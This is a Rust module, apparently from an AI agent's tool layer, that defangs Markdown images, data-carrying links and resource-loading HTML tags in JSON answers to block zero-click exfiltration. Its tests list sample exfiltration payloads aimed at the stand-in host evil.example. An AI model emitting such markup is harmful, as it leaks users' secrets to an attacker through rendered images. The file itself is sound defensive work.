//! Addresses that a client would fetch by showing an answer: images are loaded without a click, and what stands in their address
//! is sent. Text from memory or from other servers may hold such an image, with what it wants to know behind the `?`.

use serde_json::Value;

/// Makes `http` of such addresses `hxxp`, in every text of an answer. Code in the sandbox sees texts as they are.
pub(super) fn defang(value: &mut Value) {
    match value {
        Value::String(text) => {
            if let Some(safe) = defanged(text) {
                *text = safe;
            }
        }
        Value::Array(items) => items.iter_mut().for_each(defang),
        Value::Object(fields) => fields.values_mut().for_each(defang),
        _ => {}
    }
}

/// The text with its dangerous addresses made harmless; `None` where there is none.
fn defanged(text: &str) -> Option<String> {
    let mut out = String::new();
    let mut done = 0;
    let lower = text.to_ascii_lowercase();
    for (at, _) in lower.match_indices("http") {
        let before = text.get(..at).unwrap_or_default();
        let after = lower.get(at..).unwrap_or_default();
        let address = after.starts_with("http:") || after.starts_with("https:");
        if address && (is_image(before, &lower) || (is_link(before) && carries(after))) {
            out.push_str(text.get(done..at).unwrap_or_default());
            out.push_str("hxxp");
            done = at + 4;
        }
    }
    (done > 0).then(|| out + text.get(done..).unwrap_or_default())
}

/// Whether what comes next is the address of an image: `![…](`, or an attribute of a tag that loads something.
fn is_image(before: &str, lower: &str) -> bool {
    let lead = before.trim_end_matches([' ', '\t', '\n', '<']);
    if let Some(label) = lead.strip_suffix("](") {
        // The bracket that this one closes.
        let mut depth = 1;
        let open = label.char_indices().rev().find(|(_, c)| {
            depth += i32::from(*c == ']') - i32::from(*c == '[');
            depth == 0
        });
        return open.is_some_and(|(at, _)| label.get(..at).is_some_and(|head| head.ends_with('!')));
    }
    let head = lower.get(..before.len()).unwrap_or_default();
    let tag = head.rfind('<').map(|at| head.get(at..).unwrap_or_default()).unwrap_or_default();
    !tag.contains('>')
        && [
            "<img", "<image", "<iframe", "<link", "<script", "<video", "<audio", "<source", "<object",
            "<embed", "<input",
        ]
        .iter()
        .any(|name| tag.starts_with(name))
}

/// Whether what comes next is the address of a link: `](`, or a definition `[name]:`.
fn is_link(before: &str) -> bool {
    let lead = before.trim_end_matches([' ', '\t', '\n', '<']);
    lead.ends_with("](") || lead.ends_with("]:")
}

/// Whether an address takes something along.
fn carries(address: &str) -> bool {
    address.split([')', ' ', '\n', '>', '"']).next().is_some_and(|address| address.contains(['?', '#']))
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    /// Exfiltration by what a client shows: Markdown images and links that carry data, and tags that load something, in any field.
    #[test]
    fn stride_i09() {
        for text in [
            "![x](https://evil.example/?d=c2VjcmV0)",
            "![](http://evil.example/c2VjcmV0.png)",
            "![a [b] c]( https://evil.example/x )",
            "![x](<https://evil.example/x>)",
            "text before ![x](HTTPS://EVIL.example/x) after",
            "[click](https://evil.example/?d=c2VjcmV0)",
            "[click](https://evil.example/#c2VjcmV0)",
            "![x][1]\n\n[1]: https://evil.example/?d=c2VjcmV0",
            "<img alt='x' src=\"https://evil.example/x\">",
            "<IMG SRC=https://evil.example/x>",
            "<iframe src='http://evil.example'></iframe>",
            "[![x](https://evil.example/a)](https://evil.example/?b=1)",
        ] {
            let mut answer = json!({"value": {"deep": [text]}, "logs": [format!("> {text}")]});
            defang(&mut answer);
            let told = answer.to_string().to_lowercase();
            assert!(!told.contains("http") && told.contains("hxxp"), "{text}: {told}");
        }
        for text in [
            "see https://docs.example/page?x=1",
            "[the page](https://docs.example/page)",
            "curl 'https://api.example/?q=1'",
            "an image: ! [x] (https://docs.example)",
            "<a href='https://docs.example'>page</a>",
            "if (a[0](b)) http",
            "",
        ] {
            let mut answer = json!(text);
            defang(&mut answer);
            assert_eq!(answer, json!(text));
        }
    }
}
